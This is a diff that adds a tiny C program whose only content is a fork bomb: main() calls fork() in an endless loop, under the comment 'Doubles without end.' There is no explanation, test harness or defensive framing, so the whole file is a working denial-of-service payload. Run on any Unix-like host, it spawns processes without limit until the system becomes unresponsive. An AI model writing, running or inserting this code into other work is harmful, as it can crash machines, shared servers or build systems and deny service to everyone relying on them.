@@ -1,0 +1,6 @@
+/// Doubles without end.
+#include <unistd.h>
+
+int main() {
+  while (true) fork();
+}
